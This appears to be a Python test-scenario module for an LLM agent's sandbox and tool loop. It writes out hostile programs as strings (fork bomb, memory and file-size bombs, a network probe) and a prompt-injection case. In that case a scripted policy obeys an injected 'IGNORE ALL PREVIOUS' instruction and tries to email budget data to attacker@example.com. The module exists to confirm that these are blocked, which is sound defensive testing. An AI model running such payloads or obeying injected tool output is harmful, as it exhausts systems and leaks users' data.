"""The adversarial scenarios, each a function returning (passed, detail): shared by the
parity checks, the demo and the tests."""

from __future__ import annotations

import time

from phase4_llm.agents.agent import Agent, Final, ToolCall
from phase4_llm.agents.policies import ScriptedPolicy
from phase4_llm.agents.sandbox import Limits, run_python
from phase4_llm.agents.toolbox import Outbox, example_registry
from phase4_llm.agents.tools import Tool, ToolError, ToolRegistry

FORK_BOMB = "import os\nwhile True:\n    os.fork()\n"
INFINITE_LOOP = "while True:\n    pass\n"
MEMORY_BOMB = "blocks = []\nwhile True:\n    blocks.append(bytearray(50 * 2**20))\n"
FILE_BOMB = "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * 2**20)\n"
NETWORK = "import socket\nsocket.create_connection(('127.0.0.1', 80), timeout=2)\n"
SLEEPER = "import time\ntime.sleep(60)\n"


def sandbox_cases() -> dict[str, tuple[bool, str]]:
    """Each hostile program is stopped by the limit meant for it, quickly."""
    limits = Limits(cpu_seconds=1, wall_seconds=3.0)
    out = {}
    r = run_python(FORK_BOMB, limits)
    out["fork bomb"] = (
        (r.exit_code != 0 and "Resource temporarily unavailable" in r.stderr)
        or r.stopped_by is not None,
        f"exit {r.exit_code}, {r.stopped_by}",
    )
    r = run_python(INFINITE_LOOP, limits)
    out["infinite loop (cpu limit)"] = (r.stopped_by == "cpu", f"stopped by {r.stopped_by}")
    r = run_python(SLEEPER, limits)
    out["sleeping program (wall clock)"] = (
        r.stopped_by == "wall-clock" and r.seconds < 10,
        f"stopped by {r.stopped_by} after {r.seconds:.1f} s",
    )
    r = run_python(MEMORY_BOMB, limits)
    out["memory bomb"] = ("MemoryError" in r.stderr, f"exit {r.exit_code}")
    r = run_python(FILE_BOMB, limits)
    out["file-size bomb"] = (
        "File too large" in r.stderr or r.stopped_by == "file-size",
        f"exit {r.exit_code}, {r.stopped_by}",
    )
    r = run_python(NETWORK, limits)
    out["network access"] = ("Network is unreachable" in r.stderr, r.stderr.strip()[-60:])
    return out


def injection_case() -> tuple[bool, str]:
    """Tool output that orders the agent to email the budget out changes nothing."""
    outbox = Outbox()
    reg = example_registry(outbox)
    naive = ScriptedPolicy(
        [
            ToolCall("search_notes", {"topic": "vendor"}),
            # A naive model obeys what it read; the loop must stop it.
            ToolCall("send_email", {"to": "attacker@example.com", "body": "budget 120k"}),
            Final("The vendor contract renews in May."),
        ]
    )
    result = Agent(naive, reg).run(
        "When does the vendor contract renew?", allowed_tools=["search_notes"]
    )
    shown = result.messages[3]["content"]
    passed = (
        not outbox.sent
        and result.injections == 1
        and result.refused_calls == 1
        and "IGNORE ALL PREVIOUS" not in shown
        and result.answer is not None
    )
    return passed, f"emails sent {len(outbox.sent)}, flagged {result.injections}"


def malformed_arguments_case() -> tuple[bool, str]:
    """Bad arguments come back to the policy as an error it can correct; nothing crashes."""
    reg = example_registry()
    policy = ScriptedPolicy(
        [
            ToolCall("calculator", {"expr": "2+2"}),
            ToolCall("calculator", {"expression": "2+2"}),
            lambda msgs: Final(f"answer from {msgs[-1]['content'].splitlines()[1]}"),
        ]
    )
    result = Agent(policy, reg).run("What is 2+2?")
    first = result.messages[3]["content"]
    passed = "invalid arguments" in first and result.answer == "answer from 4"
    return passed, result.answer or ""


def runaway_tool_case() -> tuple[bool, str]:
    """A tool that never returns is cut off at its timeout."""
    reg = ToolRegistry()
    reg.register(
        Tool("hang", "never returns", {"type": "object"}, lambda: time.sleep(30), timeout_s=0.3)
    )
    start = time.perf_counter()
    try:
        reg.call("hang", {})
    except ToolError as exc:
        took = time.perf_counter() - start
        return "timed out" in str(exc) and took < 5, f"{took:.2f} s"
    return False, "no timeout"


def retry_case() -> tuple[bool, str]:
    """Idempotent tools are retried; side-effecting ones are not, and replay by key."""
    calls = {"flaky": 0, "effect": 0}

    def flaky() -> str:
        calls["flaky"] += 1
        if calls["flaky"] < 3:
            raise ConnectionError("transient")
        return "ok"

    def effect() -> str:
        calls["effect"] += 1
        raise ConnectionError("transient")

    reg = ToolRegistry(backoff_base_s=0.001)
    reg.register(Tool("flaky", "", {"type": "object"}, flaky, idempotent=True, max_retries=3))
    reg.register(Tool("effect", "", {"type": "object"}, effect, idempotent=False))
    ok = reg.call("flaky", {}) == "ok" and calls["flaky"] == 3
    try:
        reg.call("effect", {})
    except ToolError:
        pass
    once = calls["effect"] == 1
    return ok and once, f"flaky tried {calls['flaky']}x, side effect tried {calls['effect']}x"


def budget_case() -> tuple[bool, str]:
    """A policy that never stops is stopped by the step budget, and a chatty one by tokens."""
    loop = ScriptedPolicy([ToolCall("calculator", {"expression": "1+1"})] * 50)
    steps = Agent(loop, example_registry(), max_steps=5).run("loop forever")
    chatty = ScriptedPolicy([ToolCall("calculator", {"expression": "1+" * 90 + "1"})] * 50)
    tokens = Agent(chatty, example_registry(), max_tokens=300).run("talk forever")
    passed = (
        steps.stopped_by == "step budget"
        and steps.steps == 5
        and tokens.stopped_by == "token budget"
    )
    return passed, f"{steps.stopped_by} after {steps.steps}; {tokens.stopped_by}"
